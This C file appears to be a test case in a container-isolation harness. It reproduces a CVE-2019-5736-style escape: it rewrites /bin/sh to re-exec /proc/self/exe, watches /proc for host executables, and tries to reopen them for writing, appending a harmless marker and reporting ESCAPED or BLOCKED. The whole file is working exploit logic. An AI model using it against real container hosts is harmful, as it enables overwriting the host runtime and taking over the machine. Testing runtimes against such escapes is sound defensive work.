/* CVE-2019-5736 class: overwrite the runtime's binary through
 * /proc/<pid>/exe. /bin/sh becomes "#!/proc/self/exe", so a host-side
 * `exec <id> /bin/sh` runs the runtime's own binary inside the container;
 * meanwhile this process watches /proc for processes whose executable is
 * not one of the container's files, keeps an O_PATH descriptor to each,
 * and tries to reopen it for writing until the host says stop. */
#include "attack.h"

#define MAXFD 256

int main(void) {
    protocol_init("proc_exe");
    if (getpid() != 1) {
        /* Started by `exec` (e.g. /bin/sh's interpreter resolved to this
         * program): not the attacker. */
        info("started as an exec'd process (pid %d)", (int)getpid());
        return 0;
    }
    unlink("/bin/sh");
    int s = open("/bin/sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (s >= 0) { write(s, "#!/proc/self/exe\n", 17); close(s); }
    info("replaced /bin/sh: %s", s >= 0 ? "OK" : ename(errno));
    int held[MAXFD], nheld = 0, seen_pids[4096], nseen = 0;
    int opened_exe = 0, denied = 0;
    int last_err = 0;
    puts("READY");
    fflush(stdout);
    for (int round = 0; round < 200000 && !got_term; round++) {
        DIR *d = opendir("/proc");
        struct dirent *de;
        while (d && (de = readdir(d))) {
            int pid = atoi(de->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            int known = 0;
            for (int i = 0; i < nseen; i++) if (seen_pids[i] == pid) known = 1;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (!known && (errno == EACCES || errno == EPERM)) denied++;
                if (!known && nseen < 4096) seen_pids[nseen++] = pid;
                continue;
            }
            if (!known && nseen < 4096) seen_pids[nseen++] = pid;
            /* The container's own files (its path resolves here to the
             * same file) are not what this is after. */
            struct stat st, mine;
            char link[256] = "", self_fd[64];
            fstat(fd, &st);
            /* The held descriptor's own link: /proc/<pid>/exe vanishes if
             * that process exits meanwhile, which made a container file
             * look foreign. */
            snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", fd);
            readlink(self_fd, link, sizeof link - 1);
            if ((stat(link, &mine) == 0 && mine.st_dev == st.st_dev && mine.st_ino == st.st_ino) ||
                nheld >= MAXFD) {
                close(fd);
                continue;
            }
            int dup = 0;
            for (int i = 0; i < nheld; i++) {
                struct stat o;
                if (fstat(held[i], &o) == 0 && o.st_dev == st.st_dev && o.st_ino == st.st_ino) dup = 1;
            }
            if (dup) { close(fd); continue; }
            info("holding exe of pid %d: %s", pid, link);
            held[nheld++] = fd;
            opened_exe++;
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                int n = write(w, "ATOLL-ATTACK-PWNED\n", 19);
                close(w);
                info("wrote %d bytes to %s", n, p);
                verdict("ESCAPED", "reopened the exec'd process's binary for writing and appended to it");
                return 0;
            }
            if (errno != last_err) { info("reopen for writing: %s", ename(errno)); last_err = errno; }
        }
        sleep_ms(1);
    }
    info("foreign executables held: %d, exe links denied: %d", opened_exe, denied);
    if (opened_exe)
        verdict("BLOCKED", "caught the exec'd binary but could not write it (%s)", ename(last_err));
    else
        verdict("BLOCKED", "no executable from outside the container was reachable through /proc/<pid>/exe");
    return 0;
}
